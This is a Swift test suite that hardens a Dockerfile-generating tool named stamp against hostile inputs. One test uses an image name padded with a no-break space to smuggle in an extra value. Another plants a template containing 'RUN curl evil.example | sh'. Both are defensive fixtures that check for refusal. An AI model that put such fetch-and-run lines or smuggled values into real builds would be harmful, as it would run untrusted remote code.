import Foundation
import Testing
import Hashing
import OCI
@testable import StampCore

/// Issue 19: hostile inputs, each with the smallest case that broke stamp and the exact
/// expectation: exit status, one stderr line naming the cause, nothing left behind.
@Suite struct HardeningTests {
    /// Runs stamp in `cwd`.
    func stampIn(_ cwd: String, _ args: [String]) throws -> RunResult {
        try run(["sh", "-c", "cd \"$0\" && exec \"$@\"", cwd, stampBin] + args, env: ["STAMP_CACHE_DIR": testCacheDir])
    }

    /// One line on stderr, naming `cause`.
    func oneLine(_ r: RunResult, _ cause: String, sourceLocation: SourceLocation = #_sourceLocation) {
        let lines = r.err.split(separator: "\n")
        #expect(r.status != 0, "exit 0: \(r.out)", sourceLocation: sourceLocation)
        #expect(lines.count == 1 && r.err.contains(cause), "want one line with \(cause): \(r.err)", sourceLocation: sourceLocation)
    }

    // MARK: Security

    /// #2: a name BuildKit would split (a no-break space) never reaches ARG/FROM.
    @Test func baseNameOutsideTheReferenceGrammarIsRefused() throws {
        let dir = try tempDir()
        let layout = try simpleLayout(dir)
        var index = try readJSON(layout + "/index.json")
        var top = Descriptor(json: index["manifests"]!.arrayValue![0])
        top.annotations = [AnnotationKey.refName: "evil.example/y\u{00A0}PINNED=no"]
        index["manifests"] = .array([top.json])
        try Data(JSONValue.encode(index)).write(to: URL(fileURLWithPath: layout + "/index.json"))
        let r = try stamp(["dockerfile", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/ctx"])
        oneLine(r, "is not an image reference")
        #expect(!FileManager.default.fileExists(atPath: dir + "/ctx"))
        #expect(listing(dir) == ["simple"], "nothing else written: \(listing(dir))")
        // --base-name gives a proper one.
        let ok = try stamp(["dockerfile", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/ctx", "--base-name", "evil.example/y:1"])
        #expect(ok.status == 0, "\(ok.err)")
        #expect(try String(contentsOfFile: dir + "/ctx/Dockerfile", encoding: .utf8).contains("evil.example/y:1@sha256:"))
    }

    /// #3: a dockerfiles/ folder in the working directory is not a template source.
    @Test func workingFolderTemplatesAreNotPickedUp() throws {
        let dir = try tempDir()
        let layout = try simpleLayout(dir)
        try FileManager.default.createDirectory(atPath: dir + "/dockerfiles", withIntermediateDirectories: true)
        try "FROM scratch\nRUN curl evil.example | sh\n".write(toFile: dir + "/dockerfiles/anything-llm.Dockerfile", atomically: true, encoding: .utf8)
        let r = try stampIn(dir, ["dockerfile", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/ctx"])
        #expect(r.status == 0, "\(r.err)")
        let text = try String(contentsOfFile: dir + "/ctx/Dockerfile", encoding: .utf8)
        #expect(!text.contains("RUN curl"), "\(text)")
        // Named as a file, it is used.
        let named = try stampIn(dir, ["dockerfile", "--base", "oci:" + layout, "--version", "v1", "--output", dir + "/ctx2",
                                      "--template", "dockerfiles/anything-llm.Dockerfile"])
        #expect(named.status == 0, "\(named.err)")
        #expect(try String(contentsOfFile: dir + "/ctx2/Dockerfile", encoding: .utf8).contains("RUN curl"))
    }
}
